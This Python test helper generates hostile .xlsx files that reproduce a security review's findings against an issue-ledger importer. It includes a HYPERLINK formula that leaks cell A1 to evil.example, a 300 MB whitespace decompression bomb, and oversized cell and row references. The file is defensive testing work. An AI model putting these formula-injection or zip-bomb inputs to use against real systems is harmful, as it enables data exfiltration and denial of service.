"""Build hostile ledger files in a test's tmp_path: the security review's reproductions, generated, never
committed. ``workbook`` writes a minimal but complete .xlsx by hand (zipfile), so every part can be bent."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
HEADER = ["项目名称", "问题名称", "问题类型"]
PROJECT = "嘉润综合物流园区"
MiB = 1 << 20

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
    f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}">'
    '<sheets><sheet name="问题台账" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
BOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
    f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="rId3" Type="{REL}/styles" Target="styles.xml"/></Relationships>'
)
STYLES = (
    f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{MAIN}">'
    '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
)


def text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def rows_xml(rows: list[list[str]], first: int = 1) -> str:
    """``<row>`` elements of inline-string cells from plain values."""
    out = []
    for n, values in enumerate(rows, start=first):
        cells = "".join(text_cell(f"{chr(65 + i)}{n}", v) for i, v in enumerate(values))
        out.append(f'<row r="{n}">{cells}</row>')
    return "".join(out)


def sheet(body: str, before: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{before}<sheetData>{body}</sheetData></worksheet>'


def shared(strings: list[str]) -> str:
    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{len(strings)}">{items}</sst>'


def parts(sheet_xml: str, strings: list[str] | None = None) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES.encode(),
        "_rels/.rels": ROOT_RELS.encode(),
        "xl/workbook.xml": WORKBOOK.encode(),
        "xl/_rels/workbook.xml.rels": BOOK_RELS.encode(),
        "xl/styles.xml": STYLES.encode(),
        "xl/sharedStrings.xml": shared(strings or []).encode(),
        "xl/worksheets/sheet1.xml": sheet_xml.encode(),
    }


def write_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def workbook(path: Path, sheet_xml: str, strings: list[str] | None = None) -> Path:
    return write_zip(path, parts(sheet_xml, strings))


def valid(path: Path) -> Path:
    """A small ledger that imports cleanly: the header and one row."""
    return workbook(path, sheet(rows_xml([HEADER, [PROJECT, "安全测试问题", "土地"]])))


def with_data_cell(cell_xml: str) -> str:
    """A sheet whose row 2 has a valid project and category and ``cell_xml`` as its 问题名称 (B2)."""
    return sheet(rows_xml([HEADER]) + f'<row r="2">{text_cell("A2", PROJECT)}{cell_xml}{text_cell("C2", "土地")}</row>')


# -- the security review's reproductions -------------------------------------------------------------


def formula_title(path: Path) -> Path:
    """What duban's old export wrote for the title =HYPERLINK(…): a formula with an empty cached value."""
    return workbook(
        path, with_data_cell('<c r="B2"><f>HYPERLINK("http://evil.example/?leak="&amp;A1,"点击")</f><v></v></c>')
    )


def truncated_xml(path: Path) -> Path:
    xml = sheet(rows_xml([HEADER, [PROJECT, "问题", "土地"]]))
    return workbook(path, xml[: len(xml) // 2])


def bad_row_number(path: Path) -> Path:
    return workbook(path, sheet(rows_xml([HEADER]) + '<row r="abc">' + text_cell("A2", PROJECT) + "</row>"))


def shared_index_out_of_range(path: Path) -> Path:
    return workbook(path, with_data_cell('<c r="B2" t="s"><v>7</v></c>'), strings=["只有一个"])


def bad_style(path: Path) -> Path:
    return workbook(path, with_data_cell('<c r="B2" s="99" t="inlineStr"><is><t>问题</t></is></c>'))


def formula_without_value(path: Path) -> Path:
    return workbook(path, with_data_cell('<c r="B2"><f>1+1</f><v></v></c>'))


def huge_column_ref(path: Path) -> Path:
    """5 KB that once took 449 MB: a reference far beyond Excel's last column."""
    return workbook(path, with_data_cell('<c r="AZZZZZ2"><v>1</v></c>'))


def huger_column_ref(path: Path) -> Path:
    return workbook(path, with_data_cell('<c r="ZZZZZZZ2"><v>1</v></c>'))


def far_row(path: Path) -> Path:
    """Once ran for minutes: a row two billion rows down."""
    return workbook(
        path, sheet(rows_xml([HEADER, [PROJECT, "问题", "土地"]]) + '<row r="2000000000"><c><v>1</v></c></row>')
    )


def whitespace_bomb(path: Path, size: int = 300 * MiB) -> Path:
    """300 MB of whitespace inside the sheet XML, deflated to a few hundred KB."""
    xml = sheet(rows_xml([HEADER, [PROJECT, "问题", "土地"]]))
    head, tail = xml.split("<sheetData>")
    members = parts(xml)
    del members["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members.items():
            z.writestr(name, data)
        with z.open("xl/worksheets/sheet1.xml", "w") as f:
            f.write((head + "<sheetData>").encode())
            block = b" " * MiB
            for _ in range(size // MiB):
                f.write(block)
            f.write(tail.encode())
    return path


REPRODUCTIONS: dict[str, tuple[Callable[[Path], Path], str]] = {
    # name → (builder, a fragment the Chinese error must contain)
    "formula_title": (formula_title, "是公式但没有计算结果"),
    "truncated_xml": (truncated_xml, "不是有效的 XML"),
    "bad_row_number": (bad_row_number, "无效的行号「abc」"),
    "shared_index_out_of_range": (shared_index_out_of_range, "不存在的共享字符串「7」"),
    "bad_style": (bad_style, "样式编号「99」不存在"),
    "formula_without_value": (formula_without_value, "是公式但没有计算结果"),
    "huge_column_ref": (huge_column_ref, "无效的单元格引用「AZZZZZ2」"),
    "huger_column_ref": (huger_column_ref, "无效的单元格引用「ZZZZZZZ2」"),
    "far_row": (far_row, "无效的行号「2000000000」"),
    "whitespace_bomb": (whitespace_bomb, "压缩比异常"),
}
